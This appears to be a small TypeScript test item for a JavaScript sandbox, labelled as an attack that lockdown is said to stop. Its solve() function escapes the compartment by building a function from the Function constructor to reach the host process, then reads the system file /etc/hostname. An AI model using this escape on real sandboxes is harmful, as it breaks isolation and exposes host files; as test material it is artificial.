// Attack: the Function constructor of a host function, evaluated outside the compartment. Fence: lockdown tames it.
export function solve(): number {
  const makeFunction = (() => 0).constructor as FunctionConstructor;
  const hostProcess = makeFunction("return process")();
  return hostProcess.mainModule.require("fs").readFileSync("/etc/hostname").length;
}
export function tally(): void {}
